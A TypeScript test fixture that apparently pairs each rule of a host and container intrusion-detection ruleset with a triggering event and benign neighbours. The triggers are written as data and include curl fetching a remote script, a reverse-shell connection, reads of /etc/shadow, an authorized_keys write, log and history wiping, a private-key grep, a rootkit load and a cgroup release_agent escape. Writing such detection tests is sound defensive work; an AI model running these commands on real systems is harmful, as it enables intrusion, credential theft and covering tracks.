// For every rule of the default ruleset: an event that must trigger it and a nearby benign event
// that must not. Keyed by rule name; rules-default.test.ts checks that every rule has an entry.
import type { EventInput } from '../../host/engine/batch-encoder.js';
import {
  chmod, connect, container, containerProc, dup2, EINPROGRESS, exec, finitModule, hostProc, MODE, ptrace,
  PTRACE, read, symlinkat, syscall, truncate, unlinkat, write,
} from './events.js';

export interface RuleCase {
  trigger: EventInput;
  benign: EventInput;
  /** Texts the trigger's formatted output must contain (who, what, which object). */
  output: string[];
  /** More benign neighbours, where one is not enough to pin the rule's edge. */
  alsoBenign?: EventInput[];
  /** More events that must trigger the rule (other variants of the attack). */
  alsoTrigger?: EventInput[];
}

function mounted(source: string, dest: string): EventInput {
  const c = container({ id: 'eeeeeeeeeeee', mounts: [{ source, dest, mode: '', rw: true, propagation: 'rprivate' }] });
  return exec(containerProc('sh', { vpid: 1 }, c));
}

const redis = container({ id: 'aaaaaaaaaaaa', name: 'cache', image: 'redis:7', imageRepository: 'redis', imageTag: '7' });
const withDockerSock = container({
  id: 'bbbbbbbbbbbb', name: 'portainer', image: 'portainer/portainer-ce:2', imageRepository: 'portainer/portainer-ce', imageTag: '2',
  mounts: [{ source: '/var/run/docker.sock', dest: '/var/run/docker.sock', mode: '', rw: true, propagation: 'rprivate' }],
});
const privileged = container({ id: 'cccccccccccc', name: 'priv', privileged: true });
const hostShell = hostProc('bash', { user: 'alice', tty: 34816 });

export const CASES: Record<string, RuleCase> = {
  'Saker Terminal Shell in Container': {
    trigger: exec(containerProc('bash', { tty: 34816 })),
    benign: exec(containerProc('bash', { tty: 0, args: ['-c', 'nginx -t'] })),
    output: ['process=bash', 'parent=containerd-shim', 'container_id=0123456789ab', 'image=docker.io/library/nginx:1.27', 'user=root'],
    alsoBenign: [exec(hostProc('bash', { tty: 34816 }))],
  },
  'Saker Unexpected Program in Single-App Container': {
    trigger: exec(containerProc('curl', { args: ['http://203.0.113.9/x.sh'] }, redis)),
    benign: exec(containerProc('redis-server', { args: ['*:6379'] }, redis)),
    output: ['process=curl', 'command=curl http://203.0.113.9/x.sh', 'container_id=aaaaaaaaaaaa', 'image=redis:7'],
  },
  'Saker Write to Container Immutable Directory': {
    trigger: write(containerProc('sh'), '/usr/bin/backdoor'),
    benign: write(containerProc('nginx'), '/var/cache/nginx/proxy_temp/1'),
    output: ['process=sh', 'file=/usr/bin/backdoor', 'container_id=0123456789ab'],
    alsoBenign: [write(containerProc('nginx'), '/usr/share/nginx/html/index.html')],
  },
  'Saker Container With Sensitive Host Mount': {
    trigger: exec(containerProc('portainer', { vpid: 1 }, withDockerSock)),
    benign: exec(containerProc('nginx', { vpid: 1 })),
    output: ['/var/run/docker.sock', 'container_id=bbbbbbbbbbbb', 'image=portainer/portainer-ce'],
    alsoBenign: [exec(containerProc('bash', { vpid: 7 }, withDockerSock)), mounted('/etcd-data', '/data'), mounted('/srv/proc', '/proc-copy')],
    alsoTrigger: [mounted('/', '/host'), mounted('/proc', '/host/proc'), mounted('/etc/kubernetes', '/k8s'), mounted('/run/containerd/containerd.sock', '/c.sock')],
  },
  'Saker Package Management in Container': {
    trigger: exec(containerProc('apt-get', { args: ['install', '-y', 'netcat'] })),
    // dpkg started by apt: only the outer command alerts
    benign: exec(containerProc('dpkg', { args: ['--configure', '-a'], parent: containerProc('apt-get') })),
    output: ['process=apt-get', 'command=apt-get install -y netcat', 'container_id=0123456789ab'],
    alsoBenign: [exec(hostProc('apt-get', { args: ['upgrade'] }))],
  },
  'Saker Dropped Binary Executed in Container': {
    trigger: exec(containerProc('kinsing', { exe: '/tmp/kinsing', upperLayer: true })),
    benign: exec(containerProc('nginx', { upperLayer: false })),
    output: ['process=kinsing', 'exe=/tmp/kinsing', 'container_id=0123456789ab'],
  },
  'Saker Namespace Change in Container': {
    trigger: { ...syscall('setns', containerProc('nsenter', { args: ['-t', '1', '-m'] }), { fd: 3, nstype: 0 }), fd: { num: 3, type: 'file', name: '/proc/1/ns/mnt' } },
    benign: syscall('setns', hostProc('nsenter', { args: ['-t', '1', '-m'] }), { fd: 3, nstype: 0 }),
    output: ['process=nsenter', 'namespace_fd=/proc/1/ns/mnt', 'container_id=0123456789ab'],
  },
  'Saker Mount in Privileged Container': {
    trigger: syscall('mount', containerProc('mount', { args: ['/dev/sda1', '/mnt'] }, privileged)),
    benign: syscall('mount', containerProc('mount', { args: ['/dev/sda1', '/mnt'] })),
    output: ['process=mount', 'command=mount /dev/sda1 /mnt', 'container_id=cccccccccccc'],
  },
  'Saker Cgroup Release Agent Write': {
    trigger: write(containerProc('sh'), '/tmp/cgrp/release_agent'),
    benign: write(containerProc('sh'), '/tmp/cgrp/notify_on_release'),
    output: ['process=sh', 'file=/tmp/cgrp/release_agent', 'container_id=0123456789ab'],
  },
  'Saker Sensitive File Read': {
    trigger: read(hostProc('python3', { args: ['steal.py'] }), '/etc/shadow'),
    benign: read(hostProc('unix_chkpwd'), '/etc/shadow'),
    output: ['process=python3', 'file=/etc/shadow', 'parent=bash', 'container_id=host'],
    alsoBenign: [read(hostProc('sshd-session'), '/etc/shadow'), read(hostProc('python3'), '/etc/passwd'), write(hostProc('vipw'), '/etc/shadow')],
  },
  'Saker Write Below Etc': {
    trigger: write(hostProc('tee', { args: ['/etc/cron.d/job'] }), '/etc/cron.d/job'),
    benign: write(hostProc('dpkg'), '/etc/cron.d/job'),
    output: ['process=tee', 'file=/etc/cron.d/job', 'user=root'],
    alsoBenign: [write(containerProc('envsubst', { parent: containerProc('20-envsubst-on-', { parent: containerProc('docker-entrypoint.sh', { vpid: 1 }) }) }), '/etc/nginx/conf.d/default.conf'), write(hostProc('sed', { args: ['-i', 's/a/b/', '/etc/default/grub'], parent: hostProc('sh', { parent: hostProc('dpkg') }) }), '/etc/default/grub')],
  },
  'Saker Write Below Root Home': {
    trigger: write(hostProc('sh'), '/root/.ssh/authorized_keys'),
    benign: write(hostProc('bash'), '/root/.bash_history'),
    output: ['process=sh', 'file=/root/.ssh/authorized_keys'],
    alsoBenign: [write(hostProc('ssh'), '/root/.ssh/known_hosts')],
  },
  'Saker Write Below Binary or Library Directory': {
    trigger: write(hostProc('curl', { args: ['-o', '/usr/bin/sshd2', 'http://203.0.113.9/x'] }), '/usr/bin/sshd2'),
    benign: write(hostProc('dpkg'), '/usr/bin/vim.basic'),
    output: ['process=curl', 'file=/usr/bin/sshd2'],
    alsoBenign: [write(hostProc('cp', { parent: hostProc('sh', { parent: hostProc('rpm') }) }), '/usr/lib/x86_64-linux-gnu/libfoo.so.1')],
  },
  'Saker Shell History Deleted': {
    trigger: unlinkat(hostProc('rm', { args: ['-f', '/home/alice/.bash_history'], user: 'alice' }), '/home/alice/.bash_history'),
    // bash rewriting its own history on exit
    benign: truncate(hostProc('bash', { user: 'alice' }), '/home/alice/.bash_history'),
    output: ['process=rm', 'name=/home/alice/.bash_history', 'user=alice'],
    alsoBenign: [unlinkat(hostProc('rm'), '/home/alice/notes.txt')],
    alsoTrigger: [
      truncate(hostProc('cp', { args: ['/dev/null', '/root/.bash_history'] }), '/root/.bash_history'),
      symlinkat(hostProc('ln', { args: ['-sf', '/dev/null', '/root/.zsh_history'] }), '/dev/null', '/root/.zsh_history'),
    ],
  },
  'Saker Log File Cleared': {
    trigger: truncate(hostProc('truncate', { args: ['-s0', '/var/log/auth.log'] }), '/var/log/auth.log'),
    benign: truncate(hostProc('logrotate', { args: ['/etc/logrotate.conf'] }), '/var/log/auth.log'),
    output: ['process=truncate', 'file=/var/log/auth.log'],
    alsoBenign: [unlinkat(hostProc('gzip', { args: ['/var/log/syslog.2'], parent: hostProc('logrotate') }), '/var/log/syslog.2')],
  },
  'Saker Reverse Shell': {
    trigger: dup2(hostProc('bash', { args: ['-i'] }), 0),
    benign: dup2(hostProc('bash', { args: ['-c', 'ls | wc'] }), 1, true),
    output: ['process=bash', 'connection=10.1.2.3:40000->203.0.113.7:4444', 'target_fd=0'],
    alsoBenign: [dup2(hostProc('xinetd'), 0), { ...dup2(hostProc('python3'), 3), res: 3 }],
  },
  'Saker Network Activity from Silent System Binary': {
    trigger: connect(hostProc('ls'), '198.51.100.20', 443, EINPROGRESS),
    benign: connect(hostProc('curl'), '198.51.100.20', 443),
    output: ['process=ls', 'connection=10.1.2.3:40000->198.51.100.20:443'],
    alsoBenign: [connect(hostProc('ls'), '198.51.100.20', 443, -111)],
    alsoTrigger: [connect(hostProc('passwd'), '198.51.100.20', 80)],
  },
  'Saker Connection to Mining Pool Port': {
    trigger: connect(containerProc('python3'), '198.51.100.30', 3333),
    benign: connect(containerProc('python3'), '198.51.100.30', 443),
    output: ['process=python3', 'port=3333', 'container_id=0123456789ab'],
    alsoBenign: [connect(containerProc('python3'), '127.0.0.1', 3333)],
  },
  'Saker Fileless Execution via memfd': {
    trigger: exec(hostProc('3', { exe: 'memfd:payload', memfd: true })),
    benign: exec(hostProc('3', { exe: 'memfd:runc_cloned', memfd: true, parent: hostProc('runc') })),
    output: ['process=3', 'exe=memfd:payload', 'parent=bash'],
  },
  'Saker Execution from Temporary Directory': {
    trigger: exec(hostProc('x', { exe: '/dev/shm/x' })),
    benign: exec(hostProc('pkg.test', { exe: '/tmp/go-build123/b001/pkg.test', parent: hostProc('go') })),
    output: ['process=x', 'exe=/dev/shm/x'],
    // make's recipe shell running a test binary of a package built in /tmp: quiet. The same shell
    // under anything but a build tool, or a build tool two shells up, still alerts.
    alsoBenign: [exec(hostProc('test_util', { exe: '/tmp/build-1/test_util', parent: hostProc('sh', { parent: hostProc('make') }) }))],
    alsoTrigger: [
      exec(hostProc('test_util', { exe: '/tmp/build-1/test_util', parent: hostProc('sh', { parent: hostProc('cron') }) })),
      exec(hostProc('x', { exe: '/tmp/x', parent: hostProc('sh', { parent: hostProc('sh', { parent: hostProc('make') }) }) })),
      exec(hostProc('x', { exe: '/tmp/x', parent: hostProc('python3', { parent: hostProc('make') }) })),
    ],
  },
  'Saker Ptrace Attach': {
    trigger: ptrace(hostProc('python3', { args: ['inject.py'] }), PTRACE.ATTACH, 700),
    benign: ptrace(hostProc('gdb', { args: ['-p', '700'] }), PTRACE.ATTACH, 700),
    output: ['process=python3', 'request=PTRACE_ATTACH', 'target_pid=700'],
  },
  'Saker Ptrace Anti-Debug': {
    trigger: ptrace(hostProc('malware'), PTRACE.TRACEME, 0),
    benign: ptrace(hostProc('gdb', { parent: hostProc('gdb') }), PTRACE.TRACEME, 0),
    output: ['process=malware', 'parent=bash'],
  },
  'Saker Crypto Miner Launched': {
    trigger: exec(containerProc('python3', { args: ['-m', 'miner', '-o', 'stratum+tcp://pool.example:3333'] })),
    benign: exec(containerProc('python3', { args: ['-m', 'http.server'] })),
    output: ['process=python3', 'stratum+tcp://pool.example:3333', 'container_id=0123456789ab'],
  },
  'Saker Credential Search': {
    trigger: exec(hostProc('grep', { args: ['-r', 'BEGIN RSA PRIVATE KEY', '/'] })),
    benign: exec(hostProc('grep', { args: ['-r', 'TODO', 'src'] })),
    output: ['process=grep', 'command=grep -r BEGIN RSA PRIVATE KEY /'],
  },
  'Saker Kernel Module Loaded': {
    trigger: finitModule(hostProc('insmod', { args: ['rootkit.ko'] }), '/tmp/rootkit.ko'),
    benign: finitModule(hostProc('systemd-udevd', { parent: hostProc('systemd') }), '/lib/modules/6.8/kernel/drivers/usb/storage/usb-storage.ko'),
    output: ['process=insmod', 'module_fd=/tmp/rootkit.ko', 'command=insmod rootkit.ko'],
    alsoBenign: [finitModule(hostProc('(udev-worker)', { parent: hostProc('systemd-udevd') }), '/lib/modules/6.8/kernel/drivers/hid/hid.ko'), finitModule(hostProc('modprobe', { args: ['-q', '--', 'net-pf-38'], parent: hostProc('kthreadd', { parent: hostProc('swapper') }) }), '/lib/modules/6.8/kernel/net/key/af_key.ko')],
  },
  'Saker Setuid or Setgid Bit Set': {
    trigger: chmod(hostProc('chmod', { args: ['u+s', '/tmp/sh'] }), '/tmp/sh', MODE.SUID | MODE.RWXR_XR_X),
    benign: chmod(hostProc('chmod', { args: ['755', '/tmp/sh'] }), '/tmp/sh', MODE.RWXR_XR_X),
    output: ['process=chmod', 'file=/tmp/sh', 'S_ISUID'],
    alsoBenign: [chmod(hostProc('dpkg'), '/usr/bin/passwd', MODE.SUID | MODE.RWXR_XR_X)],
  },
  'Saker User Management Binary Run': {
    trigger: exec(hostProc('useradd', { args: ['-m', 'backup2'], parent: hostShell })),
    benign: exec(hostProc('useradd', { args: ['--system', '_apt'], parent: hostProc('dpkg') })),
    output: ['process=useradd', 'command=useradd -m backup2', 'parent=bash'],
    alsoBenign: [exec(hostProc('useradd', { args: ['--system', 'svc'], parent: hostProc('sh', { parent: hostProc('sh', { parent: hostProc('dpkg') }) }) }))],
  },
};

